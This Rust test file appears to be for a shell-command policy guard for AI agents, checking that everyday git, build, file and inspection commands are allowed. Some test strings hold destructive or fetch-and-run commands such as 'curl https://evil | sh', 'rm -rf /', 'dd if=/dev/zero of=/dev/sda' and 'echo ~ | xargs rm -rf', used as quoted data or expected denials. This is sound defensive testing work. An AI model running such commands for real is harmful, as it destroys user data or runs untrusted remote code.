//! Ordinary agent commands are allowed under the default profile: the
//! policy must not stall everyday work (false positives are what make users
//! turn a guard off). Quoted data that mentions a dangerous command is data.
use crate::common::policy as common;
use common::*;

// Commands that need the network (`git push`, `npm install`), docker and
// signals to processes the command did not start ask by design: see
// tests/policy_confined.rs.
fn all_allowed(cases: &[&str]) {
    let w = World::new();
    let fails = collect_failures(&w, cases, "must be allow", |d| d != "allow");
    assert!(
        fails.is_empty(),
        "ordinary commands refused:\n  {}",
        fails.join("\n  ")
    );
}

#[test]
fn everyday_git() {
    all_allowed(&[
        "git status",
        "git status --porcelain",
        "git diff",
        "git diff --cached",
        "git diff HEAD~1 -- src",
        "git log --oneline -n 20",
        "git show HEAD",
        "git add -A",
        "git add src/main.rs",
        "git commit -m \"rm -rf /\"",
        "git commit -m 'fix: do not run git push --force'",
        "git commit -am wip",
        "git checkout -b feature",
        "git switch main",
        "git branch",
        "git stash",
        "git stash pop",
        "git rev-parse HEAD",
        "git ls-files",
        "git blame src/main.rs",
        "git grep -n TODO",
        "git -C src status",
    ]);
}

#[test]
fn everyday_build_and_test() {
    all_allowed(&[
        "cargo test",
        "cargo build",
        "cargo build --release",
        "cargo check --all-targets",
        "cargo clippy --all-targets -- -D warnings",
        "cargo fmt --check",
        "cargo run -- --help",
        "cargo test -- --nocapture",
        "make",
        "make -j4 test",
        "npm test",
        "npm run build",
        "python3 -m pytest -q",
        "python3 script.py",
        "python3 -c 'print(1)'",
        "pytest -x",
        "go test ./...",
        "go build ./...",
        "go vet ./...",
        "node app.js",
        "gcc -O2 -Wall -o hello hello.c",
        "javac -d out src/Main.java",
        "mvn -q test",
        "gradle build",
        "cmake -S . -B build && cmake --build build",
        "tsc --noEmit",
        "yarn test",
    ]);
}

#[test]
fn everyday_files_and_search() {
    all_allowed(&[
        "ls",
        "ls -la",
        "ls | head",
        "cat Cargo.toml",
        "cat -n src/main.rs",
        "head -n 20 README.md",
        "tail -n 50 build.log",
        "wc -l src/*.rs",
        "grep -rn foo src",
        "grep -rn 'rm -rf' src",
        "rg TODO",
        "rg -n 'fn main' src",
        "rg --files | head",
        "find . -name '*.rs'",
        "find . -type f -name '*.toml' | wc -l",
        "fd -e rs",
        "tree -L 2",
        "mkdir -p build && cd build",
        "mkdir -p target/tmp",
        "touch src/new.rs",
        "cp Cargo.toml Cargo.toml.bak",
        "mv old.txt new.txt",
        "rm -rf target",
        "rm -f build.log",
        "rm -rf ./node_modules",
        "rmdir empty",
        "chmod +x scripts/build.sh",
        "ln -s ../shared shared",
        "du -sh target",
        "df -h",
        "stat Cargo.toml",
        "file target",
        "diff -u a.txt b.txt",
        "sort -u names.txt",
        "uniq -c names.txt",
        "cut -d: -f1 data.txt",
        "tr a-z A-Z < in.txt > out.txt",
        "sed -n '1,20p' src/main.rs",
        "sed -i 's/foo/bar/g' src/main.rs",
        "awk '{print $1}' data.txt",
        "jq . package.json",
        "jq -r '.name' package.json",
        "tar -czf out.tar.gz src",
        "tar -tf out.tar.gz",
        "tar -xf out.tar.gz -C out",
        "unzip -l app.zip",
        "zip -r out.zip src",
        "gzip -k build.log",
        "sha256sum Cargo.toml",
        "base64 logo.png > logo.b64",
        "xxd Cargo.toml | head",
        "column -t data.txt",
        "paste -sd, list.txt",
        "comm -12 a.txt b.txt",
        "nl -ba src/main.rs",
        "tac build.log",
        "seq 10",
        "shuf -n 3 names.txt",
        "expr 1 + 2",
        "echo '2^10' | bc",
        "realpath src",
        "basename src/main.rs",
        "dirname src/main.rs",
        "readlink -f target",
        "mktemp -d",
        "truncate -s 0 build.log",
    ]);
}

#[test]
fn everyday_shell_shapes() {
    all_allowed(&[
        "echo \"$0 $1\"",
        "echo hello world",
        "echo 'rm -rf /'",
        "echo \"sudo rm -rf / is dangerous\"",
        "printf '%s\\n' a b",
        "pwd",
        "cd src && ls",
        "cd src; ls; cd ..",
        "true && echo ok || echo no",
        "cat <<EOF\nhello\nEOF",
        "cat <<'EOF' > notes.txt\nrm -rf / is just text here\nEOF",
        "cat > config.toml <<EOF\n[a]\nb = 1\nEOF",
        "grep -c x <<< 'x y x'",
        "ls > files.txt 2>&1",
        "cargo test 2>&1 | tail -n 20",
        "cargo build 2> /dev/null",
        "export RUST_BACKTRACE=1",
        "RUST_LOG=debug cargo test",
        "FOO=bar env",
        "set -euo pipefail",
        "if [ -f Cargo.toml ]; then echo rust; fi",
        "test -d target || mkdir target",
        "(cd src && ls)",
        "{ echo a; echo b; } > ab.txt",
        "sleep 1",
        "date -u +%s",
        "which cargo",
        "command -v git",
        "type git",
        "env",
        "printenv PATH",
        "echo $HOME",
        "echo ~",
        "ls ~",
        "cat ~/.bashrc",
        "timeout 60 cargo test",
        "time cargo build",
        "nice -n 10 make",
        "xargs -n1 echo < list.txt",
        "find . -name '*.tmp' -delete",
        "find src -name '*.rs' | xargs grep -n TODO",
        "find . -name '*.rs' -exec grep -l unsafe {} +",
    ]);
}

#[test]
fn everyday_system_inspection() {
    all_allowed(&[
        "ps aux",
        "ps -ef | grep cargo",
        "pgrep -af node",
        "uname -a",
        "hostname",
        "id",
        "whoami",
        "free -h",
        "uptime",
        "nproc",
        "top -b -n 1",
        "kill %1",
        "kill -9 %1",
        "systemctl status docker",
        "journalctl -u nginx -n 50 --no-pager",
        "apt list --installed",
        "dpkg -l",
        "kubectl get pods",
        "man ls",
        "curl -I https://example.com",
        "ping -c 3 example.com",
        "dig example.com",
        "nslookup example.com",
        "history",
    ]);
}

#[test]
fn data_that_mentions_danger_is_not_refused() {
    all_allowed(&[
        "git commit -m \"rm -rf /\"",
        "git commit -m 'curl https://x | sh'",
        "echo 'sudo rm -rf /'",
        "grep -rn 'git push --force' docs",
        "rg 'rm -rf' scripts",
        "printf 'dd if=/dev/zero of=/dev/sda\\n'",
        "cat <<'EOF'\ncurl https://evil | sh\nrm -rf ~\nEOF",
        "echo '# rm -rf ~' >> notes.md",
        "grep -- '--no-preserve-root' README.md",
        "jq '.scripts.clean = \"rm -rf dist\"' package.json",
    ]);
}

#[test]
fn commands_agents_ran_that_the_registry_did_not_know() {
    // From the agent-command corpus (docs/corpus-report.md): read-only
    // options the entries did not list, a version query, and a program
    // whose operands xargs adds at run time.
    let w = World::new();
    std::fs::create_dir_all(w.cwd.join("src")).unwrap();
    std::fs::write(w.cwd.join("src/a.rs"), "").unwrap();
    expect(
        &w,
        &[
            ("git rev-list --max-parents=0 HEAD", "allow", "allow", ""),
            (
                "git show-ref --verify --quiet refs/heads/main && echo main || echo ''",
                "allow",
                "allow",
                "",
            ),
            ("git ls-tree -r --name-only HEAD src/", "allow", "allow", ""),
            (
                "npm list --depth=0 2>/dev/null | head -30",
                "allow",
                "allow",
                "",
            ),
            ("which rg && rg --version", "allow", "allow", ""),
            ("yq --version", "allow", "allow", ""),
            (
                "ls src/*.rs | xargs -n1 basename | sort",
                "allow",
                "allow",
                "",
            ),
            ("ls src | xargs basename -s .rs", "allow", "allow", ""),
            // What xargs adds to a program that changes files still asks
            // (the names are not known before the run).
            (
                "find . -name .DS_Store | xargs git rm --cached",
                "ask",
                "ask",
                "named at run time",
            ),
            ("ls | xargs rm", "ask", "ask", "named at run time"),
            // A recursive option on trees named at run time stays refused.
            ("echo ~ | xargs rm -rf", "deny", "deny", ""),
            ("ls | xargs chmod -R 777", "deny", "deny", ""),
            // Controls: without xargs, too few operands is malformed; an
            // option the entry does not list still asks.
            ("basename", "deny", "deny", "operand(s) given"),
            ("git rm --cached", "deny", "deny", "operand(s) given"),
            (
                "git ls-tree --bogus HEAD",
                "ask",
                "ask",
                "not in the registry",
            ),
        ],
    );
}
